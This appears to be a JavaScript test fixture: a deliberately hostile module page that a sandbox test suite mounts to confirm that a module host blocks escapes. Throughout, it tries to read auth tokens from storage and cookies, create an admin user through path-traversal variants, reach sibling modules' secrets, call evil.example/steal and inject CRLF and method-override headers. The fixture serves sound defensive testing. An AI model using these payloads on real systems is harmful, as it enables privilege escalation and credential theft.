// The page of the hostile module in test_module_pages.py.
// Renders its own route, then tries everything a page must not do, and records it.
const NEW_ADMIN = JSON.stringify({ username: "mallory", role: "admin", password: "mallory-pass-1" });
const JSON_POST = { method: "POST", headers: { "Content-Type": "application/json" }, body: NEW_ADMIN };
const results = {};
const seen = [];
addEventListener("message", (event) => seen.push(JSON.stringify(event.data)));

async function attempt(name, action) {
  try {
    const value = await action();
    const shown = value instanceof Response ? `HTTP ${value.status} ${await value.text()}` : value;
    results[name] = { ok: true, value: String(shown) };
  } catch (error) {
    results[name] = { ok: false, error: `${error.name}: ${error.message}` };
  }
}

function rawCall(port, message) {
  return new Promise((resolve, reject) => {
    port.onmessage = ({ data }) => {
      if (data.type === "response") resolve(`HTTP ${data.status} ${new TextDecoder().decode(data.body)}`);
      else reject(new Error(data.message));
    };
    port.postMessage({ id: 1, type: "fetch", headers: [], body: null, ...message });
  });
}

export async function mount(element, context) {
  const own = await (await context.fetch("own")).json();
  const line = document.createElement("p");
  line.id = "own";
  line.textContent = `own route answered for ${own.user}`;
  element.replaceChildren(line);

  await attempt("own route, encoded query", () => context.fetch("own?next=%2Fa%2F..%2Fb"));
  const sameOrigin = (path) => new URL(path, location.href).href;
  await attempt("sessionStorage", () => sessionStorage.getItem("modhub.token"));
  await attempt("localStorage", () => localStorage.getItem("modhub.token"));
  await attempt("parent.sessionStorage", () => parent.sessionStorage.getItem("modhub.token"));
  await attempt("top.document", () => top.document.body.textContent);
  await attempt("document.cookie", () => document.cookie);
  await attempt("token from the own route", () => own.authorization || Promise.reject(new Error("none")));
  await attempt("bridge POST /users", () => context.fetch("/api/v1/users", JSON_POST));
  await attempt("bridge POST absolute /users", () => context.fetch(sameOrigin("/api/v1/users"), JSON_POST));
  await attempt("bridge POST ../../users", () => context.fetch("../../users", JSON_POST));
  await attempt("bridge POST encoded slash", () => context.fetch("..%2f..%2fusers", JSON_POST));
  await attempt("bridge POST encoded dots", () => context.fetch("%2e%2e/%2e%2e/users", JSON_POST));
  await attempt("bridge POST backslash", () => context.fetch("..\\..\\users", JSON_POST));
  await attempt("bridge POST tab-hidden dots", () => context.fetch(".\t./.\t./users", JSON_POST));
  await attempt("bridge POST via redirect", () => context.fetch("bounce", JSON_POST));
  await attempt("bridge sibling", () => context.fetch("/api/v1/m/sibling/secret"));
  await attempt("bridge ../sibling", () => context.fetch("../sibling/secret"));
  await attempt("bridge other host", () => context.fetch("http://evil.example/steal"));
  await attempt("direct POST /users", () => fetch(sameOrigin("/api/v1/users"), JSON_POST));
  await attempt("direct login", () =>
    fetch(sameOrigin("/api/v1/auth/login"), { method: "POST", body: NEW_ADMIN }),
  );
  await attempt("direct sibling", () => fetch(sameOrigin("/api/v1/m/sibling/secret")));
  await attempt("navigate top", () => {
    top.location.href = sameOrigin("/modules?taken-over");
    return "navigated";
  });
  await attempt("popup", () => window.open(sameOrigin("/modules")) || Promise.reject(new Error("null")));

  // Ask the console for a port of its own, and send it what the page's fetch would refuse.
  const port = await new Promise((resolve) => {
    addEventListener("message", (event) => event.ports[0] && resolve(event.ports[0]));
    parent.postMessage({ type: "modhub:ready" }, "*");
  });
  await attempt("port POST /users", () =>
    rawCall(port, { url: "/api/v1/users", method: "POST", body: new TextEncoder().encode(NEW_ADMIN).buffer }),
  );
  await attempt("port dot segments", () => rawCall(port, { url: "/api/v1/m/evil-page/../../users", method: "POST" }));
  await attempt("port sibling", () => rawCall(port, { url: "/api/v1/m/sibling/secret", method: "GET" }));
  await attempt("port method trick", () => rawCall(port, { url: "own", method: "GET\r\nX-Trick: 1" }));
  await attempt("port forged header", () =>
    rawCall(port, { url: "own", method: "GET", headers: [["X-HTTP-Method-Override", "DELETE"]] }),
  );
  results["messages seen"] = { ok: false, error: seen.join("\n") };

  const record = document.createElement("pre");
  record.id = "results";
  record.textContent = JSON.stringify(results);
  element.append(record);
}

export function unmount(element) {
  element.replaceChildren();
}
